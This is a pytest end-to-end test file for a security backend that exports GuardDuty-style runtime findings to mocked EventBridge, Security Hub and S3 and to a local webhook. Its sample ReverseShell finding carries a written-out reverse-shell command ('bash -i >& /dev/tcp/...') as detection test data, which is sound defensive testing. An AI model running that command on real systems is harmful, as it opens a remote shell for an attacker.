"""Exports end to end: the real backend (agent batches over HTTP) exporting to moto in server mode (EventBridge with
a rule to an SQS queue, Security Hub, S3) and to a real local aiohttp webhook receiver.

Each test writes an exports file, starts a backend with it (``exports_file``), sends findings as an agent does,
and reads what arrived where the security team would: the SQS queue behind an EventBridge rule, Security Hub's
GetFindings, the S3 objects, the receiver's requests, and the dead letters.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import socket
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from aiohttp import web
from backend_env import BackendThread, sample_finding
from sqlalchemy import select, update

from backend import tenancy
from backend.exports import archive_changed, health
from backend.exports.base import list_dead_letters
from backend.exports.ocsf import check_detection_finding
from backend.exports.webhook import DELIVERY_HEADER, SIGNATURE_HEADER, verify_signature
from backend.models import ExportPublished, FindingRow

if TYPE_CHECKING:
    from moto_server import MotoEndpoint


ACCOUNT, REGION = "111111111111", "us-east-1"
DETECTOR = tenancy.detector_id_for(ACCOUNT, REGION)
SECRET = "0123456789abcdef-webhook-secret"


def wait_for(fn: Callable[[], Any], timeout: float = 10.0, what: str = "condition") -> Any:
    """fn's first truthy value, polled until timeout."""
    deadline = time.monotonic() + timeout
    while True:
        value = fn()
        if value:
            return value
        if time.monotonic() > deadline:
            pytest.fail(f"timed out after {timeout}s waiting for {what} (last value {value!r})")
        time.sleep(0.05)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# -- what the tests run against ----------------------------------------------------------------------------------


class Backends:
    """Backends started with an exports file; all stopped at the end of the test."""

    def __init__(self, tmp_path: Path) -> None:
        self.tmp_path = tmp_path
        self.running: list[BackendThread] = []
        self.db_url = f"sqlite:///{tmp_path / 'backend.db'}"

    def start(self, exports: str | None, database_url: str | None = None) -> BackendThread:
        settings: dict[str, Any] = {}
        if exports is not None:
            path = self.tmp_path / f"exports-{uuid.uuid4().hex[:6]}.toml"
            path.write_text(exports)
            settings["exports_file"] = str(path)
        b = BackendThread(database_url or self.db_url, **settings).start()
        self.running.append(b)
        return b

    def stop(self, b: BackendThread) -> None:
        self.running.remove(b)
        b.stop()


@pytest.fixture
def backends(tmp_path: Path) -> Iterator[Backends]:
    bs = Backends(tmp_path)
    try:
        yield bs
    finally:
        for b in list(bs.running):
            b.stop()


class RuleQueue:
    """An SQS queue behind an EventBridge rule: what a GuardDuty user's rule would deliver."""

    def __init__(self, moto: MotoEndpoint, pattern: dict[str, Any]) -> None:
        self.sqs = moto.client("sqs")
        events = moto.client("events")
        name = "q-" + uuid.uuid4().hex[:8]
        self.url = self.sqs.create_queue(QueueName=name)["QueueUrl"]
        arn = self.sqs.get_queue_attributes(QueueUrl=self.url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
        events.put_rule(Name=name, EventPattern=json.dumps(pattern), State="ENABLED")
        events.put_targets(Rule=name, Targets=[{"Id": "sqs", "Arn": arn}])
        self.received: list[dict[str, Any]] = []

    def poll(self) -> list[dict[str, Any]]:
        while True:
            msgs = self.sqs.receive_message(QueueUrl=self.url, MaxNumberOfMessages=10).get("Messages", [])
            if not msgs:
                return self.received
            for m in msgs:
                self.received.append(json.loads(m["Body"]))
                self.sqs.delete_message(QueueUrl=self.url, ReceiptHandle=m["ReceiptHandle"])

    def wait(self, n: int, timeout: float = 10.0) -> list[dict[str, Any]]:
        wait_for(lambda: len(self.poll()) >= n, timeout, f"{n} events on the rule's queue")
        return self.received


class WebhookReceiver:
    """A real aiohttp server in its own thread; answers with ``statuses`` in turn, then 200."""

    def __init__(self, statuses: list[int] | None = None) -> None:
        self.statuses = list(statuses or [])
        self.requests: list[tuple[dict[str, str], bytes, int]] = []
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.runner: web.AppRunner | None = None
        self.port = 0

    async def _handle(self, request: web.Request) -> web.Response:
        body = await request.read()
        status = self.statuses.pop(0) if self.statuses else 200
        self.requests.append((dict(request.headers), body, status))
        return web.json_response({"ok": status < 300}, status=status)

    async def _start(self) -> None:
        app = web.Application()
        app.router.add_post("/hook", self._handle)
        self.runner = web.AppRunner(app)
        await self.runner.setup()
        site = web.TCPSite(self.runner, "127.0.0.1", 0)
        await site.start()
        self.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]

    def start(self) -> WebhookReceiver:
        self.thread.start()
        asyncio.run_coroutine_threadsafe(self._start(), self.loop).result(10)
        return self

    def stop(self) -> None:
        if self.runner is not None:
            asyncio.run_coroutine_threadsafe(self.runner.cleanup(), self.loop).result(10)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/hook"


@pytest.fixture
def receiver_factory() -> Iterator[Callable[..., WebhookReceiver]]:
    started: list[WebhookReceiver] = []

    def make(statuses: list[int] | None = None) -> WebhookReceiver:
        r = WebhookReceiver(statuses).start()
        started.append(r)
        return r

    try:
        yield make
    finally:
        for r in started:
            r.stop()


def eventbridge(moto: MotoEndpoint, name: str = "bus", **extra: Any) -> str:
    options = {
        "batch_max_wait_s": 0.05,
        "coverage_events": False,
        "sweep_interval_s": 0.1,
        "backoff_base_s": 0.02,
        "backoff_max_s": 0.1,
        **extra,
    }
    lines = [f'name = "{name}"', 'type = "eventbridge"', f'region = "{REGION}"', f'endpoint_url = "{moto.url}"']
    lines += [f"{k} = {json.dumps(v)}" for k, v in options.items()]
    return "[[exporters]]\n" + "\n".join(lines) + "\n"


def dead_letters(b: BackendThread, exporter: str | None = None) -> list[Any]:
    return b.in_session(lambda s: list_dead_letters(s, exporter, 1000))


def exporter_health(b: BackendThread, name: str) -> dict[str, Any]:
    async def get() -> dict[str, Any]:
        return next(h for h in health(b.app) if h["name"] == name)

    return b.call(get)


# -- EventBridge -------------------------------------------------------------------------------------------------


def test_a_new_finding_reaches_an_eventbridge_rule_in_guardduty_envelope(
    moto_endpoint: MotoEndpoint, backends: Backends
) -> None:
    rule = RuleQueue(moto_endpoint, {"source": ["aws.guardduty"], "detail-type": ["GuardDuty Finding"]})
    b = backends.start(eventbridge(moto_endpoint))
    token = b.token()
    shell = sample_finding(type="Execution:Runtime/ReverseShell", command_line="bash -i >& /dev/tcp/x/4444 0>&1")
    started = time.monotonic()
    assert b.send(token, [shell])[0] == 200
    [event] = rule.wait(1)
    assert time.monotonic() - started < 5, "new findings go out within seconds"
    assert event["source"] == "aws.guardduty"
    assert event["detail-type"] == "GuardDuty Finding"
    assert event["resources"] == []
    detail = event["detail"]
    # the finding as GetFindings returns it: what users' GuardDuty rules and parsers already read
    got = b.guardduty().get_findings(DetectorId=DETECTOR, FindingIds=[shell["id"]])["Findings"][0]
    assert detail["id"] == got["Id"] == shell["id"]
    assert detail["type"] == "Execution:Runtime/ReverseShell"
    assert detail["service"]["count"] == 1 and detail["service"]["archived"] is False
    assert detail["service"]["runtimeDetails"]["process"]["commandLine"] == "bash -i >& /dev/tcp/x/4444 0>&1"
    assert detail["resource"]["ecsClusterDetails"]["taskDetails"]["arn"].endswith("/prod/0123456789abcdef")
    h = exporter_health(b, "bus")
    assert h["sent"] == 1 and h["status"] == "OK" and h["deadLettered"] == 0 and h["lastSuccessAt"]


def test_archived_and_suppressed_findings_are_never_sent(moto_endpoint: MotoEndpoint, backends: Backends) -> None:
    rule = RuleQueue(moto_endpoint, {"source": ["aws.guardduty"]})
    b = backends.start(eventbridge(moto_endpoint, publishing_frequency=0))
    token = b.token()
    gd = b.guardduty()
    gd.create_filter(
        DetectorId=DETECTOR,
        Name="quiet-recon",
        Action="ARCHIVE",
        FindingCriteria={"Criterion": {"type": {"Eq": ["Discovery:Runtime/SuspiciousCommand"]}}},
    )
    recon = sample_finding(type="Discovery:Runtime/SuspiciousCommand", severity=2.0, exe="/usr/bin/id")
    shell = sample_finding(type="Execution:Runtime/ReverseShell")
    assert b.send(token, [recon, shell])[0] == 200
    rule.wait(1)
    # a person archives the shell finding; its agent keeps reporting it (count grows): nothing more goes out
    gd.archive_findings(DetectorId=DETECTOR, FindingIds=[shell["id"]])
    again = {**shell, "updatedAt": "2025-10-09T09:00:00.000Z", "service": {**shell["service"], "count": 7}}
    again_recon = {**recon, "updatedAt": "2025-10-09T09:00:00.000Z", "service": {**recon["service"], "count": 3}}
    assert b.send(token, [again, again_recon])[0] == 200
    time.sleep(1.0)  # publishing_frequency 0: an unarchived update would have gone out by now
    ids = [e["detail"]["id"] for e in rule.poll()]
    assert ids == [shell["id"]], "the suppressed finding and the archived update never left"
    published = b.in_session(
        lambda s: s.execute(select(ExportPublished.finding_id).where(ExportPublished.exporter == "bus"))
    ).scalars()
    assert set(published) == {shell["id"]}


def test_aggregated_updates_go_out_at_most_once_per_publishing_frequency(
    moto_endpoint: MotoEndpoint, backends: Backends, database_url: str
) -> None:
    rule = RuleQueue(moto_endpoint, {"source": ["aws.guardduty"]})
    b = backends.start(eventbridge(moto_endpoint, publishing_frequency=2), database_url=database_url)
    token = b.token()
    f = sample_finding(count=1)
    assert b.send(token, [f])[0] == 200
    rule.wait(1)
    sent_at = time.monotonic()
    for n in (2, 3, 4):
        update_ = {**f, "updatedAt": f"2025-10-09T10:00:0{n}.000Z", "service": {**f["service"], "count": n}}
        assert b.send(token, [update_])[0] == 200
    time.sleep(max(0.0, 1.2 - (time.monotonic() - sent_at)))
    assert len(rule.poll()) == 1, "updates within the publishing frequency are held back"
    events = rule.wait(2, timeout=6)
    assert time.monotonic() - sent_at >= 1.5
    assert [e["detail"]["service"]["count"] for e in events] == [1, 4], "one update, with the latest count"
    time.sleep(0.5)
    assert len(rule.poll()) == 2


def test_put_events_throttled_by_eventbridge_is_retried(moto_endpoint: MotoEndpoint, backends: Backends) -> None:
    rule = RuleQueue(moto_endpoint, {"source": ["aws.guardduty"]})
    moto_endpoint.throttle("PutEvents", 2)
    b = backends.start(eventbridge(moto_endpoint))
    f = sample_finding()
    assert b.send(b.token(), [f])[0] == 200
    [event] = rule.wait(1)
    assert event["detail"]["id"] == f["id"]
    assert moto_endpoint.throttled == ["PutEvents", "PutEvents"]
    h = exporter_health(b, "bus")
    assert (h["sent"], h["failedAttempts"], h["retries"], h["deadLettered"]) == (1, 2, 2, 0)


def test_a_refused_entry_is_failed_alone_and_not_retried(moto_endpoint: MotoEndpoint) -> None:
    from backend.exports.config import EventBridgeConfig, parse_exports
    from backend.exports.eventbridge import EventBridgeExporter

    rule = RuleQueue(moto_endpoint, {"source": ["aws.guardduty"]})
    cfg = parse_exports({"exporters": [{"name": "bus", "type": "eventbridge", "region": REGION}]}).exporters[0]
    assert isinstance(cfg, EventBridgeConfig)
    cfg.endpoint_url = moto_endpoint.url
    exporter = EventBridgeExporter(cfg)
    good = exporter.item(sample_finding())
    bad = exporter.item(sample_finding())
    bad.body["Detail"] = '{"not json'  # as a target refusing one entry of the batch (PutEvents' FailedEntryCount)
    failures = asyncio.run(exporter.export([good, bad]))
    assert [(f.item.finding_id, f.retryable) for f in failures] == [(bad.finding_id, False)]
    assert failures[0].error.startswith("MalformedDetail")
    [event] = rule.wait(1)
    assert event["detail"]["id"] == good.finding_id
    exporter.client.close()


def test_coverage_changes_are_eventbridge_events(moto_endpoint: MotoEndpoint, backends: Backends) -> None:
    from test_coverage import HEALTHY_SOURCES, heartbeat

    rule = RuleQueue(
        moto_endpoint,
        {
            "source": ["aws.guardduty"],
            "detail-type": ["GuardDuty Runtime Protection Unhealthy", "GuardDuty Runtime Protection Healthy"],
        },
    )
    b = backends.start(eventbridge(moto_endpoint, coverage_events=True, coverage_interval_s=0.1))
    token = b.token()
    assert b.post("/agent/v1/heartbeat", heartbeat("t1"), token)[0] == 200
    time.sleep(0.5)
    assert rule.poll() == [], "a task first seen healthy is no change"
    no_process = {name: {"enabled": False, "detail": "no SYS_PTRACE"} for name in ("proc_poll", "proc_connector")}
    assert b.post("/agent/v1/heartbeat", heartbeat("t1", sources=no_process), token)[0] == 200
    [down] = rule.wait(1)
    assert down["detail-type"] == "GuardDuty Runtime Protection Unhealthy"
    d = down["detail"]
    assert (d["schemaVersion"], d["resourceAccountId"]) == ("1.0", ACCOUNT)
    assert (d["previousStatus"], d["currentStatus"]) == ("HEALTHY", "UNHEALTHY")
    assert d["issue"].startswith("Agent runs without a process source")
    ecs = d["resourceDetails"]["ecsClusterDetails"]
    assert d["resourceDetails"]["resourceType"] == "ECS" and ecs["clusterName"] == "prod"
    assert ecs["taskDetails"]["taskId"] == "t1" and ecs["fargateDetails"]["issues"] == [d["issue"]]
    assert b.post("/agent/v1/heartbeat", heartbeat("t1", sources=HEALTHY_SOURCES), token)[0] == 200
    up = rule.wait(2)[1]
    assert up["detail-type"] == "GuardDuty Runtime Protection Healthy"
    assert (up["detail"]["previousStatus"], up["detail"]["currentStatus"]) == ("UNHEALTHY", "HEALTHY")
    time.sleep(0.4)
    assert len(rule.poll()) == 2, "one event per change, not per check"


def test_findings_stored_while_no_exporter_ran_are_caught_up_at_start(
    moto_endpoint: MotoEndpoint, backends: Backends
) -> None:
    rule = RuleQueue(moto_endpoint, {"source": ["aws.guardduty"]})
    first = backends.start(None)
    f = sample_finding()
    assert first.send(first.token(), [f])[0] == 200
    backends.stop(first)
    b = backends.start(eventbridge(moto_endpoint))
    [event] = rule.wait(1)
    assert event["detail"]["id"] == f["id"]
    backends.stop(b)
    b = backends.start(eventbridge(moto_endpoint))
    time.sleep(0.5)
    assert len(rule.poll()) == 1, "sent once, not again at every start"


# -- Security Hub ------------------------------------------------------------------------------------------------


def test_security_hub_gets_asff_findings_and_their_archive_state(
    moto_endpoint: MotoEndpoint, backends: Backends
) -> None:
    sh = moto_endpoint.client("securityhub")
    config = (
        f'[[exporters]]\nname = "hub"\ntype = "securityhub"\nregion = "{REGION}"\n'
        f'endpoint_url = "{moto_endpoint.url}"\nbatch_max_wait_s = 0.05\nsweep_interval_s = 0.1\n'
    )
    b = backends.start(config)
    f = sample_finding(type="Execution:Runtime/ReverseShell", severity=8.0, remote_ip="198.51.100.7")
    assert b.send(b.token(), [f])[0] == 200

    def hub_finding() -> dict[str, Any] | None:
        found = [x for x in sh.get_findings()["Findings"] if x["ProductFields"].get("aws/guardduty/id") == f["id"]]
        return found[0] if found else None

    asff: dict[str, Any] = wait_for(hub_finding, what="the finding in Security Hub")
    assert asff["ProductArn"] == f"arn:aws:securityhub:{REGION}:{ACCOUNT}:product/{ACCOUNT}/default"
    assert asff["Id"] == f["arn"] and asff["AwsAccountId"] == ACCOUNT
    assert asff["GeneratorId"] == f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR}"
    assert asff["Types"] == ["TTPs/Execution/Execution:Runtime-ReverseShell"]
    assert asff["Severity"] == {"Product": 8.0, "Label": "HIGH", "Normalized": 80}
    assert [r["Type"] for r in asff["Resources"]] == ["AwsEcsCluster", "AwsEcsTask", "Container"]
    assert asff["Resources"][1]["Details"]["AwsEcsTask"]["TaskDefinitionArn"].endswith("task-definition/web:3")
    assert asff["Resources"][2]["Details"]["Container"]["ImageName"] == "nginx:1.27"
    assert asff["Network"]["DestinationIpV4"] == "198.51.100.7" and asff["Network"]["Direction"] == "OUT"
    assert asff["Process"]["Path"] == "/bin/bash"
    assert asff["RecordState"] == "ACTIVE" and asff["Workflow"] == {"Status": "NEW"}
    assert asff["CreatedAt"] == f["createdAt"] and asff["FirstObservedAt"] == f["service"]["eventFirstSeen"]

    # ArchiveFindings as findings_api will do it: the UPDATE, then archive_changed in the same transaction
    async def archive(session: Any, value: bool) -> None:
        await session.execute(
            update(FindingRow)
            .where(FindingRow.detector_id == DETECTOR, FindingRow.id == f["id"])
            .values(archived=value)
        )
        archive_changed(session, b.app, DETECTOR, [f["id"]])

    b.in_session(lambda s: archive(s, True))
    wait_for(lambda: (hub_finding() or {}).get("RecordState") == "ARCHIVED", what="RecordState ARCHIVED")
    b.in_session(lambda s: archive(s, False))
    wait_for(lambda: (hub_finding() or {}).get("RecordState") == "ACTIVE", what="RecordState ACTIVE again")
    assert exporter_health(b, "hub")["sent"] == 3


def test_an_archive_rolled_back_sends_nothing(moto_endpoint: MotoEndpoint, backends: Backends) -> None:
    config = (
        f'[[exporters]]\nname = "hub"\ntype = "securityhub"\nregion = "{REGION}"\n'
        f'endpoint_url = "{moto_endpoint.url}"\nbatch_max_wait_s = 0.05\n'
    )
    b = backends.start(config)
    f = sample_finding()
    assert b.send(b.token(), [f])[0] == 200
    wait_for(lambda: exporter_health(b, "hub")["sent"] == 1, what="the first import")

    async def archive_then_fail(session: Any) -> None:
        await session.execute(update(FindingRow).where(FindingRow.id == f["id"]).values(archived=True))
        archive_changed(session, b.app, DETECTOR, [f["id"]])
        raise RuntimeError("the request failed after the update")

    with pytest.raises(RuntimeError):
        b.in_session(archive_then_fail)
    time.sleep(0.5)
    assert exporter_health(b, "hub")["sent"] == 1


# -- S3 ----------------------------------------------------------------------------------------------------------


def test_s3_objects_are_partitioned_gzip_json_lines_with_sse_kms(
    moto_endpoint: MotoEndpoint, backends: Backends
) -> None:
    s3 = moto_endpoint.client("s3")
    bucket = "lake-" + uuid.uuid4().hex[:8]
    s3.create_bucket(Bucket=bucket)
    key_arn = f"arn:aws:kms:{REGION}:{moto_endpoint.account}:key/{uuid.uuid4()}"
    common = f'region = "{REGION}"\nendpoint_url = "{moto_endpoint.url}"\nbucket = "{bucket}"\nbatch_size = 3\n'
    config = (
        f'[[exporters]]\nname = "raw"\ntype = "s3"\n{common}prefix = "guardduty/"\nbatch_max_wait_s = 0.3\n'
        f'kms_key_id = "{key_arn}"\n'
        f'[[exporters]]\nname = "ocsf"\ntype = "s3"\n{common}prefix = "ocsf"\nformat = "ocsf"\nbatch_max_wait_s = 0.3\n'
    )
    b = backends.start(config)
    token = b.token()
    findings = [sample_finding(task=f"task{i}", domain="pool.example.org" if i == 0 else None) for i in range(4)]
    assert b.send(token, findings)[0] == 200

    def objects(prefix: str) -> list[str]:
        return [o["Key"] for o in s3.list_objects_v2(Bucket=bucket, Prefix=prefix + "/").get("Contents", [])]

    def lines(keys: list[str]) -> list[dict[str, Any]]:
        out = []
        for k in keys:
            body = s3.get_object(Bucket=bucket, Key=k)["Body"].read()
            out += [json.loads(line) for line in gzip.decompress(body).decode().splitlines()]
        return out

    raw_keys = wait_for(lambda: len(lines(objects("guardduty"))) == 4 and objects("guardduty"), what="4 findings")
    assert len(raw_keys) == 2, "batch_size 3: two objects for four findings"
    now = time.gmtime()
    for k in raw_keys:
        parts = k.split("/")
        assert parts[0] == "guardduty" and parts[1].startswith("year=") and parts[4].startswith("hour=")
        assert parts[1:4] == [f"year={now.tm_year}", f"month={now.tm_mon:02d}", f"day={now.tm_mday:02d}"]
        assert parts[5].endswith(".jsonl.gz") and uuid.UUID(parts[5].removesuffix(".jsonl.gz"))
        head = s3.head_object(Bucket=bucket, Key=k)
        assert head["ServerSideEncryption"] == "aws:kms" and head["SSEKMSKeyId"] == key_arn
    assert sorted(x["id"] for x in lines(raw_keys)) == sorted(f["id"] for f in findings)
    assert all(x["schemaVersion"] == "2.0" and x["service"]["archived"] is False for x in lines(raw_keys))

    ocsf = wait_for(lambda: len(lines(objects("ocsf"))) == 4 and lines(objects("ocsf")), what="4 OCSF findings")
    for event in ocsf:
        assert check_detection_finding(event) == []
    assert sorted(e["finding_info"]["uid"] for e in ocsf) == sorted(f["id"] for f in findings)
    dns = next(e for e in ocsf if e["finding_info"]["uid"] == findings[0]["id"])
    assert dns["evidences"][0]["query"]["hostname"] == "pool.example.org"
    assert s3.head_object(Bucket=bucket, Key=objects("ocsf")[0]).get("ServerSideEncryption") != "aws:kms"


# -- webhook -----------------------------------------------------------------------------------------------------


def webhook(url: str, name: str = "hook", **extra: Any) -> str:
    options = {"batch_max_wait_s": 0.05, "backoff_base_s": 0.02, "backoff_max_s": 0.1, "max_attempts": 4, **extra}
    lines = [f'name = "{name}"', 'type = "webhook"', f'url = "{url}"', f'secret = "{SECRET}"']
    lines += [f"{k} = {json.dumps(v)}" for k, v in options.items()]
    return "[[exporters]]\n" + "\n".join(lines) + "\n"


def test_webhook_posts_signed_json_and_retries_5xx(
    backends: Backends, receiver_factory: Callable[..., WebhookReceiver]
) -> None:
    receiver = receiver_factory([503, 502])
    b = backends.start(webhook(receiver.url))
    f = sample_finding()
    assert b.send(b.token(), [f])[0] == 200
    wait_for(lambda: len(receiver.requests) == 3, what="two refusals and a delivery")
    statuses = [s for _, _, s in receiver.requests]
    assert statuses == [503, 502, 200]
    deliveries = {h[DELIVERY_HEADER] for h, _, _ in receiver.requests}
    assert len(deliveries) == 1, "every attempt of one batch carries the same delivery id"
    headers, body, _ = receiver.requests[-1]
    assert headers["Content-Type"] == "application/json"
    assert verify_signature(SECRET.encode(), headers[SIGNATURE_HEADER], body)
    assert not verify_signature(SECRET.encode(), headers[SIGNATURE_HEADER], body.replace(b"bash", b"zsh"))
    assert not verify_signature(b"another-key-entirely", headers[SIGNATURE_HEADER], body)
    payload = json.loads(body)
    assert payload["format"] == "guardduty" and [x["id"] for x in payload["findings"]] == [f["id"]]
    wait_for(lambda: exporter_health(b, "hook")["sent"] == 1, what="the delivery counted")
    assert dead_letters(b) == []


def test_webhook_4xx_is_dead_lettered_without_retrying(
    backends: Backends, receiver_factory: Callable[..., WebhookReceiver]
) -> None:
    receiver = receiver_factory([401])
    b = backends.start(webhook(receiver.url, format="ocsf"))
    f = sample_finding()
    assert b.send(b.token(), [f])[0] == 200
    [letter] = wait_for(lambda: dead_letters(b, "hook"), what="a dead letter")
    time.sleep(0.3)
    assert len(receiver.requests) == 1, "a 4xx is not retried"
    assert letter.attempts == 1 and letter.error.startswith("HTTP 401") and letter.finding_id == f["id"]
    payload = json.loads(letter.payload)
    assert check_detection_finding(payload) == [] and payload["finding_info"]["uid"] == f["id"]
    h = exporter_health(b, "hook")
    assert h["status"] == "FAILING" and h["deadLettered"] == 1 and "401" in h["lastError"] and h["lastErrorAt"]


# -- failures: an exporter down never slows ingest ---------------------------------------------------------------


def test_unreachable_exporter_retries_then_dead_letters_and_replay_delivers(
    moto_endpoint: MotoEndpoint, backends: Backends, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from backend import cli

    refused = f"http://127.0.0.1:{free_port()}"
    config = eventbridge(moto_endpoint, max_attempts=3).replace(moto_endpoint.url, refused)
    b = backends.start(config)
    f = sample_finding()
    assert b.send(b.token(), [f])[0] == 200
    [letter] = wait_for(lambda: dead_letters(b, "bus"), what="the dead letter")
    assert letter.attempts == 3 and letter.finding_id == f["id"] and letter.detector_id == DETECTOR
    assert "EndpointConnectionError" in letter.error or "Could not connect" in letter.error
    h = exporter_health(b, "bus")
    assert (h["sent"], h["failedAttempts"], h["retries"], h["deadLettered"]) == (0, 3, 2, 1)
    assert h["status"] == "FAILING"
    backends.stop(b)

    # the operator lists the dead letters and replays them once EventBridge is reachable
    rule = RuleQueue(moto_endpoint, {"source": ["aws.guardduty"]})
    db = ["--database-url", backends.db_url]
    assert cli.main([*db, "exports", "dead-letters", "--exporter", "bus"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [(x["id"], x["findingId"]) for x in listed] == [(letter.id, f["id"])]
    fixed = tmp_path / "fixed.toml"
    fixed.write_text(eventbridge(moto_endpoint))
    assert cli.main([*db, "exports", "replay", str(letter.id), "--config", str(fixed)]) == 0
    assert json.loads(capsys.readouterr().out) == [
        {"id": letter.id, "exporter": "bus", "delivered": True, "error": None, "attempts": 1}
    ]
    [event] = rule.wait(1)
    assert event["detail"]["id"] == f["id"] and event["detail-type"] == "GuardDuty Finding"
    assert cli.main([*db, "exports", "dead-letters"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_a_hanging_exporter_does_not_slow_ingest(moto_endpoint: MotoEndpoint, backends: Backends) -> None:
    with socket.socket() as blackhole:  # accepts connections (the kernel's backlog), never answers
        blackhole.bind(("127.0.0.1", 0))
        blackhole.listen(64)
        url = f"http://127.0.0.1:{blackhole.getsockname()[1]}"
        config = eventbridge(moto_endpoint, timeout_s=5, max_attempts=1, batch_size=1).replace(moto_endpoint.url, url)
        b = backends.start(config)
        token = b.token()
        assert b.send(token, [sample_finding()])[0] == 200
        time.sleep(0.3)  # the worker is now inside PutEvents, waiting for an answer that never comes
        latencies = []
        for _ in range(5):
            started = time.monotonic()
            status, body = b.send(token, [sample_finding()])
            latencies.append(time.monotonic() - started)
            assert status == 200 and body["new"] == 1
        assert max(latencies) < 1.0, f"ingest waited on the exporter: {latencies}"
        assert exporter_health(b, "bus")["queueDepth"] == 5
    # the listening socket closed: the stuck call is reset, and stopping does not wait out its timeout
    backends.stop(b)


def test_a_full_queue_spills_to_dead_letters_without_blocking(moto_endpoint: MotoEndpoint, backends: Backends) -> None:
    with socket.socket() as blackhole:
        blackhole.bind(("127.0.0.1", 0))
        blackhole.listen(64)
        url = f"http://127.0.0.1:{blackhole.getsockname()[1]}"
        config = eventbridge(moto_endpoint, timeout_s=5, max_attempts=1, batch_size=1, queue_size=2)
        b = backends.start(config.replace(moto_endpoint.url, url))
        token = b.token()
        assert b.send(token, [sample_finding()])[0] == 200
        time.sleep(0.3)  # the worker holds the first finding, stuck in PutEvents
        batch = [sample_finding() for _ in range(10)]
        started = time.monotonic()
        assert b.send(token, batch)[0] == 200
        assert time.monotonic() - started < 1.0

        def spilled() -> list[Any]:
            return [x for x in dead_letters(b, "bus") if x.error == "queue full"]

        letters = wait_for(lambda: len(spilled()) == 8 and spilled(), what="8 dead letters")
        assert {x.finding_id for x in letters} < {f["id"] for f in batch}
        for x in letters:
            assert json.loads(x.payload)["DetailType"] == "GuardDuty Finding"
        h = exporter_health(b, "bus")
        assert (h["queueDepth"], h["queueCapacity"], h["deadLettered"]) == (2, 2, 8)
        assert "queue full" in h["lastError"]
    backends.stop(b)
